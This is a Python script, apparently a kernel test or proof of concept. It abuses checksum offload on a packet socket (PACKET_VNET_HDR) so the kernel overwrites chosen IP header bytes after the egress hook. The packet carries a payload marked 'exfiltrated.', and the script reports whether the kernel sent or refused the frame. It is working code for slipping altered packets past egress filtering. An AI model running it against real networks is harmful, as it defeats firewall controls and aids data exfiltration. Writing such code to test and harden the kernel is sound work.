#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""late_checksum.py LINK TO-MAC PROTOCOL TTL SOURCE TO OWN-PORT PORT AT VALUE

A frame by a packet socket that asks the kernel to write its checksum (PACKET_VNET_HDR, linux/virtio_net.h), and says where:
at byte AT, at least 6, of its IP header. That happens behind the egress hook. Two bytes of the payload are such that the
checksum is VALUE (hexadecimal); IPv4's own is right afterwards. Prints whether it was sent.
"""
import array
import fcntl
import ipaddress
import socket
import struct
import sys

SOL_PACKET, PACKET_VNET_HDR = 263, 15
NEEDS_CSUM = 1
SIOCETHTOOL, ETHTOOL_STXCSUM = 0x8946, 0x17
START = 20  # of what is summed up: the kernel wants no less
ETHERNET = 14


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


link, to_mac, protocol, ttl, source, to, own_port, port, at, value = sys.argv[1:]
protocol, ttl, own_port, port, at, value = int(protocol), int(ttl), int(own_port), int(port), int(at), int(value, 16)
source, to = (ipaddress.ip_address(address).packed for address in (source, to))


def packet(tweak):
    tail = struct.pack("!H", tweak) + b"exfiltrated."
    if protocol == socket.IPPROTO_TCP:
        body = struct.pack("!HHIIBBHHH", own_port, port, 1, 0, 5 << 4, 2, 1024, 0, 0) + tail
    else:
        body = struct.pack("!HHHH", own_port, port, 8 + len(tail), 0) + tail
    if len(to) == 16:
        return struct.pack("!IHBB", 6 << 28, len(body), protocol, ttl) + source + to + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 7, 0, ttl, protocol, 0) + source + to
    written = head[:at] + struct.pack("!H", value) + head[at + 2:]
    return head[:10] + struct.pack("!H", checksum(written)) + head[12:] + body


# a veth hands an unfinished checksum to its other end; a network card, or the kernel for it, finishes it
ethtool = array.array("I", [ETHTOOL_STXCSUM, 0])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
    fcntl.ioctl(any_socket, SIOCETHTOOL, struct.pack("16sP16x", link.encode(), ethtool.buffer_info()[0]))
found = next(data for data in map(packet, range(65536)) if checksum(data[START - ETHERNET:]) == value)
kind = 0x86DD if len(to) == 16 else 0x800
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
raw.bind((link, kind))
frame = bytes.fromhex(to_mac.replace(":", "")) + raw.getsockname()[4] + struct.pack("!H", kind) + found
try:
    raw.send(struct.pack("=BBHHHH", NEEDS_CSUM, 0, 0, 0, START, ETHERNET + at - START) + frame)
    print("sent")
except OSError as error:
    print(f"refused: {error.strerror}")
